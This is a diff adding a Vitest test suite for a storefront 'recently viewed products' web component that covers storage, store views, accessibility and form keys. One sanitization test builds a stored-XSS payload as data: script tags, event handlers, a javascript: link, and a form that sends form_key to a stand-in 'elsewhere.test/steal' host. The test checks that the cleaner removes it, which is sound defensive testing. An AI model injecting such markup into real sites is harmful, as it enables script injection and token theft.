@@ -1,0 +1,192 @@
+import { afterEach, beforeEach, expect, test, vi } from 'vitest';
+import { expectAccessible } from '#testing/axe';
+import { drawn, pageJson, recordEvents } from '#testing/page';
+import { vectors } from '#testing/vectors';
+import './define';
+import '../rating-stars/define';
+
+const KEY = 'recently-viewed-products';
+
+interface Stored {
+  sku: string[];
+  html: string[];
+}
+
+function store(skus: readonly string[], html = (sku: string) => `<li><a href="/${sku}.html">${sku}</a></li>`): void {
+  localStorage.setItem(KEY, JSON.stringify({ sku: skus, html: skus.map(html) }));
+}
+
+function stored(): Stored {
+  return JSON.parse(localStorage.getItem(KEY) ?? '{"sku":[],"html":[]}') as Stored;
+}
+
+function place(sku: string, attributes = '', card = `<li><a href="/${sku}.html">${sku}</a></li>`) {
+  return drawn(
+    'shop-recently-viewed',
+    `<shop-recently-viewed data-sku="${sku}" data-item="#viewed" ${attributes}>
+      <h2>Recently Viewed</h2><ol class="product-items"></ol>
+      <template id="viewed">${card}</template>
+    </shop-recently-viewed>`,
+  );
+}
+
+function shown(): string[] {
+  return Array.from(document.querySelectorAll('.product-items > li'), ({ textContent }) => textContent?.trim() ?? '');
+}
+
+beforeEach(() => localStorage.clear());
+afterEach(() => vi.restoreAllMocks());
+
+test('keeps the server’s content, and shows none of it without a product to show', async () => {
+  const element = await place('A');
+  expect(element.querySelector('h2')?.textContent).toBe('Recently Viewed');
+  expect(element.checkVisibility()).toBe(false);
+});
+
+test('is accessible', async () => {
+  store(['B', 'C']);
+  await expectAccessible(await place('A'));
+});
+
+type Viewed = { stored: string[] | null; current: string; max: number };
+
+test.each(vectors<Viewed, { shown: string[]; stored: string[] }>('recently-viewed'))(
+  'shows and keeps by the vector $id',
+  async ({ input, expected }) => {
+    if (input.stored !== null) store(input.stored);
+    const element = await place(input.current, `data-count="${input.max}"`);
+    expect(shown()).toEqual(expected.shown);
+    expect(stored().sku).toEqual(expected.stored);
+    expect(element.checkVisibility()).toBe(expected.shown.length > 0);
+  },
+);
+
+test.each(vectors<{ localStorageText: string }, string>('recently-viewed.storage'))(
+  'begins anew with a storage as in the vector $id',
+  async ({ input }) => {
+    localStorage.setItem(KEY, input.localStorageText);
+    const element = await place('A');
+    expect(element.dataset.state).toBe('ready');
+    expect(stored().sku).toEqual(['A']);
+  },
+);
+
+test('Luma’s own markup and storage work as they are, and Luma can read what is kept', async () => {
+  store(['24-MB04']);
+  await drawn(
+    'shop-recently-viewed',
+    `<shop-recently-viewed><div class="block"><ol class="product-items"></ol></div></shop-recently-viewed>
+     <div id="widget_viewed_item" data-sku="042" hidden><li class="item">Bag</li></div>`,
+  );
+  expect(shown()).toEqual(['24-MB04']);
+  expect(stored().sku).toEqual(['042', '24-MB04']);
+  expect(stored().html[0]).toMatch(/^<li class="item">Bag<\/li><!--/);
+});
+
+test('a card on the page itself can be the current one, and a page without a product keeps nothing', async () => {
+  await drawn(
+    'shop-recently-viewed',
+    '<article id="card" data-sku="A">Tea <b>pot</b></article><shop-recently-viewed data-item="#card"></shop-recently-viewed>',
+  );
+  expect(stored().html[0]).toMatch(/^<article/);
+  const element = await drawn('shop-recently-viewed', '<shop-recently-viewed></shop-recently-viewed>');
+  expect(shown()).toEqual(['Tea pot']);
+  expect(element.querySelector('ol > li > article')).not.toBeNull();
+  expect(stored().sku).toEqual(['A']);
+});
+
+test('other store views have products of their own', async () => {
+  await place('A');
+  document.documentElement.lang = 'nl';
+  const dutch = await place('B');
+  expect(dutch.checkVisibility()).toBe(false);
+  pageJson('BASE_URL', 'https://other.test/');
+  await place('C');
+  expect(shown()).toEqual([]);
+  Reflect.deleteProperty(window, 'BASE_URL');
+  document.documentElement.lang = '';
+  await place('D');
+  expect(shown()).toEqual(['A']);
+  expect(stored().sku).toEqual(['D', 'A', 'C', 'B']);
+});
+
+test('what is stored is cleaned before it is shown', async () => {
+  const attack = `<li id="cart" data-mage-init='{"https://elsewhere.test/x":{}}' onclick="alert(1)">
+    Tea <script>window.attacked = true</script><img src="x" onerror="window.attacked = true">
+    <a href="javascript:alert(1)">Go</a><p data-bind="text: attacked()" style="position:fixed"></p>
+    <form action="https://elsewhere.test/steal"><input name="form_key"></form>
+    <shop-recently-viewed></shop-recently-viewed></li>`;
+  store(['B'], () => attack);
+  const element = await place('A');
+  const card = element.querySelector('.product-items > li');
+  expect(card?.querySelector('form')?.action).toBe(location.href);
+  expect(card?.outerHTML).not.toMatch(/script|onclick|onerror|mage-init|data-bind|style|elsewhere|viewed|id="/);
+  expect(Reflect.get(window, 'attacked')).toBeUndefined();
+});
+
+test('a stored text that is no card shows nothing', async () => {
+  store(['B', 'C'], (sku) => (sku === 'B' ? 'words' : '<script>1</script>'));
+  const element = await place('A');
+  expect(shown()).toEqual([]);
+  expect(element.hidden).toBe(true);
+});
+
+test('the forms of a card have the visitor’s key of today', async () => {
+  // biome-ignore lint/suspicious/noDocumentCookie: the server's own header writes it like this
+  document.cookie = 'form_key=today;path=/';
+  store(['B'], () => '<li><form action="/cart/add/" method="post"><input name="form_key" value="old"></form></li>');
+  const element = await place('A');
+  expect(element.querySelector<HTMLInputElement>('ol input')?.value).toBe('today');
+});
+
+test('elements in a card work again, also when the card was taken after they had drawn', async () => {
+  document.body.innerHTML =
+    '<li id="card" data-sku="A"><shop-rating-stars data-score="4" data-read-only><i data-shop-fallback>4</i></shop-rating-stars></li>';
+  await expect.poll(() => document.querySelector('#card [data-star]')).not.toBeNull();
+  document.body.insertAdjacentHTML('beforeend', '<shop-recently-viewed data-item="#card"></shop-recently-viewed>');
+  await expect.poll(() => stored().sku).toEqual(['A']);
+  await place('B');
+  await expect.poll(() => document.querySelectorAll('ol [data-star][data-state="on"]').length).toBe(4);
+  expect(document.querySelectorAll('ol [data-shop-root]')).toHaveLength(1);
+});
+
+test('the host’s scripts are told about the new cards', async () => {
+  const told = recordEvents('contentUpdated');
+  store(['B']);
+  await place('A');
+  expect(told.map(({ target }) => (target as Element).className)).toEqual(['product-items']);
+});
+
+test('a full storage keeps the newest', async () => {
+  store(['B', 'C', 'D'], (sku) => `<li>${sku}</li>${' '.repeat(40_000)}`);
+  for (let size = 5_240_000; localStorage.length === 1; size -= 10_000) {
+    try {
+      localStorage.setItem('filler', 'x'.repeat(size));
+    } catch {
+      // Still too much.
+    }
+  }
+  await place('A', '', `<li>A${' '.repeat(40_000)}</li>`);
+  expect(shown()).toEqual(['B', 'C', 'D']);
+  expect(stored().sku).toEqual(['A', 'B']);
+});
+
+test('without a storage nothing shows, and nothing breaks', async () => {
+  vi.spyOn(window, 'localStorage', 'get').mockImplementation(() => {
+    throw new DOMException('denied', 'SecurityError');
+  });
+  const element = await place('A');
+  expect(element.dataset.state).toBe('ready');
+  expect(element.hidden).toBe(true);
+});
+
+test('taken out and put back, it shows the same', async () => {
+  store(['B']);
+  const element = await place('A');
+  element.replaceWith();
+  await new Promise(requestAnimationFrame);
+  document.body.append(element);
+  await expect.poll(() => element.dataset.state).toBe('ready');
+  expect(shown()).toEqual(['B']);
+  expect(stored().sku).toEqual(['A', 'B']);
+});
